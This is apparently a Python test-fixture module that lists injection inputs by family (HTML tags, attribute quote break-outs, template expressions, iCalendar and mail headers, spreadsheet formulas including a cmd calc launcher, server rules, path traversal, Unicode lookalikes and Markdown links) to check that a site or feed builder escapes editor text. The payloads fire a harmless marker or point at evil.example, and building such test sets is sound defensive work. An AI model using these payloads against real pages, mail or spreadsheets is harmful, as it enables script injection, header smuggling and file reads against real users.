"""What somebody might write to make a page, a calendar, a feed or a mail do their will.

`{n}` is the number of the attempt: what runs calls `__hit({n})`. All of these are texts that an
editor may write, so they are built; what is refused stands in `refused.py`.
"""

from __future__ import annotations

from collections.abc import Mapping

PLAIN: Mapping[str, tuple[str, ...]] = {
    "tags": (
        "<script>__hit({n})</script>",
        "<ScRiPt/x>__hit({n})</sCrIpT >",
        "<img src=x onerror=__hit({n})>",
        "<svg/onload=__hit({n})>",
        "<details open ontoggle=__hit({n})>",
        '<iframe srcdoc="<script>parent.__hit({n})</script>">',
        "<iframe src=javascript:parent.__hit({n})>",
        "<object data=https://evil.example/{n}></object>",
        "<style>@import url(https://evil.example/{n}.css);</style>",
        "<link rel=stylesheet href=https://evil.example/{n}.css>",
        "<base href=https://evil.example/>",
        '<meta http-equiv=refresh content="0;url=https://evil.example/{n}">',
        "<form action=https://evil.example/{n}><button autofocus onfocus=__hit({n})>",
        "<math><mtext></p><img src=x onerror=__hit({n})>",
        "<template><script>__hit({n})</script></template>",
    ),
    "quotes": (
        '" onmouseover="__hit({n})" x="',
        "' onmouseover='__hit({n})' x='",
        "` onmouseover=`__hit({n})` x=`",
        " autofocus onfocus=__hit({n}) ",
        '"/><img src=x onerror=__hit({n})>',
        "&quot; onmouseover=&quot;__hit({n})",
        "&#34;&#x3e;&lt;script&gt;__hit({n})&lt;/script&gt;",
        '\\" onmouseover=\\"__hit({n})',
        '"\n onmouseover="__hit({n})',
    ),
    "endings": (
        "</title><script>__hit({n})</script>",
        "</textarea></noscript><script>__hit({n})</script>",
        "</script><script>__hit({n})</script>",
        "<!--<script>__hit({n})//",
        "--><script>__hit({n})</script>",
        "--!><img src=x onerror=__hit({n})>",
        "]]><script>__hit({n})</script>",
        "<![CDATA[<script>__hit({n})</script>]]>",
        "<?xml-stylesheet href='https://evil.example/{n}'?>",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;',
    ),
    "scripts": (
        '"}});__hit({n});//',
        "'-__hit({n})-'",
        "${{__hit({n})}}",
        "\\u003cscript\\u003e__hit({n})",
        "javascript:__hit({n})",
        "data:text/html,<script>__hit({n})</script>",
    ),
    "templates": (
        "{{{{ 7 * 191 }}}}{{% raw %}}",
        "{{{{ ''.__class__.__mro__ }}}}",
        "{{% include '/etc/hostname' %}}{{# no #}}",
        "{{title}} {{n.__class__}} {{0}} %(title)s #{{7*191}}",
    ),
    "calendars": (
        "\nEND:VEVENT\nBEGIN:VEVENT\nUID:evil-{n}\nSUMMARY:evil\nEND:VEVENT",
        "\\nATTACH:https://evil.example/{n}",
        "\r\nATTENDEE;CN=evil:mailto:evil@evil.example",
        '";X-EVIL="1:evil',
        "END:VCALENDAR\nBEGIN:VCALENDAR",
        "\\;\\,\\\\N\\",
        "^n^'^^ evil",
    ),
    "mail": (
        "\r\nBcc: evil@evil.example\r\n\r\n<script>__hit({n})</script>",
        "\nX-Evil: {n}",
        "=?utf-8?q?=0D=0ABcc_:_evil@evil.example?=",
        "=?utf-8?b?DQpCY2MgOiBldmlsQGV2aWwuZXhhbXBsZQ==?=",
        ", evil@evil.example, <evil@evil.example>",
        "\n--=_boundary\nContent-Type: text/html\n\n<script>__hit({n})</script>",
    ),
    "spreadsheets": (
        "=cmd|' /C calc'!A{n}",
        "+1+1",
        "-2+3",
        "@SUM(1;1)",
        ';=HYPERLINK("https://evil.example/{n}")',
        '\n=1+{n}\n"',
        "＝1+{n}",
    ),
    "servers": (
        "\n/*\n  X-Evil: {n}",
        "; }} location / {{ return 302 https://evil.example; }}",
        "/evil https://evil.example/ 301",
        "title:evil, image[src], kind[href]",
        "../../../../etc/hostname",
        "\\\\evil.example\\{n}",
    ),
    "signs": (
        "＜script＞__hit({n})＜/script＞",
        "\u0430\u0440\u0440\u04cf\u0435.example https://\u0430pple.example/",
        "\u200e\u200f\u061c\u202f\u00ad",
        "a\u0300\u0301\u0302\u0303\u0304\u0305",
        "\U0001f480\U000e0041\ufe0f",
        "%3Cscript%3E__hit({n})%3C/script%3E%00%0d%0a",
        "\ue000\ufffd",
    ),
}
"""By family, for texts without Markdown."""

EVERYWHERE = "'\"><script>__hit({n})</script><img src=x onerror=__hit({n})>`"
"""Goes with each of the above: breaks out of text and of attributes in any quotes."""

SHORT = "\"'><svg/onload=__hit({n})>"
"""For texts that may only be short."""

INLINE: Mapping[str, tuple[str, ...]] = {
    "links": (
        "[a [b] c](javascript:__hit({n}))",
        "[a [b] c](JaVaScRiPt:__hit({n}))",
        "[a [b] c](&#106;avascript:__hit({n}))",
        "[a [b] c](java&#9;script:__hit({n}))",
        "[a [b] c](java&Tab;script&colon;__hit({n}))",
        "[a [b] c](<\\x01javascript:__hit({n})>)",
        "[a [b] c](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[a [b] c](vbscript:__hit({n}))",
        "[a [b] c](blob:https://evil.example/{n})",
        "[a [b] c](file:///etc/hostname)",
        "[a [b] c](//evil.example/{n})",
        "[a\nb](javascript:__hit({n}))",
        "[a [b] c](view-source:javascript:__hit({n}))",
        '[x](https://ok.example/{n} "\\" onmouseover=\\"__hit({n})")',
        "[x](https://ok.example/{n} '\" onmouseover=\"__hit({n})')",
        "[x](https://ok.example/'onmouseover='__hit&#40;{n}&#41;)",
    ),
    "pictures": (
        "![a [b] c](https://evil.example/{n}.png)",
        "![a\nb](https://evil.example/{n}.png)",
        "![a [b] c](//evil.example/{n}.png)",
        "![a [b] c](\\\\evil.example\\{n}.png)",
        "![a [b] c](data:image/svg+xml,%3Csvg%20onload=__hit({n})%3E)",
        "![a [b] c](&#104;ttps://evil.example/{n}.png)",
        '![" onerror="__hit({n}) [b]](/files/ohje.txt)',
    ),
    "autolinks": (
        '<https://ok.example/"onmouseover=__hit({n})>',
        "<https://ok.example/'onmouseover='__hit({n})'>",
        "<evil{n}@ok.example>",
        "<javascript:__hit({n})>",
        "<x:script onload=__hit({n})>",
    ),
    "tags": (
        "<img/src=x/onerror=__hit({n})>",
        "<svg/onload=__hit({n})>",
        "<img src=x onerror=__hit({n}) <",
        "&lt;script&gt;__hit({n})&lt;/script&gt;",
        "&#60;img src=x onerror=__hit({n})&#62;",
        "`<script>__hit({n})</script>`",
        "``` <img src=x onerror=__hit({n})> ```",
        "\\<img/src=x/onerror=__hit({n})\\>",
        "klzzwxh:0000 wzxhzdk:0 wzxhzdk:{n}",
    ),
    "attributes": (
        "*x*{{: title='\"><img/alt=x/>\"' }}",
        '*x*{{: class="a b" data-pagefind-meta=title:evil }}',
        "*x*{{: id='q\"y{n}' role=button tabindex=1 }}",
        "*x*{{: lang='\"><svg/x y=' }}",
        "[x](https://ok.example/{n}){{: target=_top ping=https://evil.example/{n} download }}",
    ),
    "templates": ("{{{{ 7 * 191 }}}} {{% raw %}} {{# x #}}", "${{7*191}} #{{7*191}}"),
}
"""By family, for texts with Markdown in the line."""

BLOCKS: Mapping[str, tuple[str, ...]] = {
    "fences": (
        '```html onclick="__hit({n})"\n<script>__hit({n})</script>\n```',
        "```{{ .x title='\"><svg/x>' }}\n</code></pre><svg/onload=__hit({n})>\n```",
        "    &lt;script&gt;__hit({n})&lt;/script&gt;",
        "~~~\n</pre><script>__hit({n})</script>\n~~~",
    ),
    "boxes": (
        '!!! note "a\' onmouseover=__hit({n}) b"\n    text',
        '!!! note onmouseover=__hit({n}) "a"\n    text',
        '!!! danger "{{{{ 7 * 191 }}}}"\n    text',
    ),
    "tables": (
        '| a" onmouseover="__hit({n}) | b |\n|:--|--:|\n| \' onmouseover=__hit({n}) | `<script>` |',
    ),
    "lists": (
        '- a" onmouseover=__hit({n})\n- b\n\n9. c',
        'Word{n}\n:   " onmouseover=__hit({n})',
        '> " onmouseover=__hit({n})',
    ),
    "notes": (
        'x[^a"b{n}]\n\n[^a"b{n}]: " onmouseover=__hit({n})',
        "x[^'><svg/onload={n}]\n\n[^'><svg/onload={n}]: note",
    ),
    "references": (
        '[x][r{n}]\n\n[r{n}]: https://ok.example/{n} "\\" onmouseover=\\"__hit({n})"',
        "![x][p{n}]\n\n[p{n}]: https://evil.example/{n}.png",
    ),
}
"""By family, for texts of whole Markdown."""

HEADINGS = (
    '## a{n} " onmouseover="__hit({n})',
    "## b{n} {{: title='\" x=\"' }}",
    "## c{n} <svg/onload=__hit({n})",
    "## d{n} {{{{ 7 * 191 }}}} ]]> --> \\",
)
"""Only pages have headings of any words."""
